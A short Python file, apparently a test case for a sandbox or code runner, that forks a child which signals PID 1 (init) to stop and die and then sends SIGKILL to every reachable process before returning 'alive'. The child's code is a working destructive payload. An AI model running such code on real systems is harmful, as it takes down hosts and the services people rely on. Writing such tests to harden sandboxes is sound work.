import os
import signal
import time


def execute(given):
    child = os.fork()
    if child == 0:
        for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGINT + 20):
            os.kill(1, number)
        os.kill(-1, signal.SIGKILL)
        os._exit(0)
    os.waitpid(child, 0)
    return "alive"
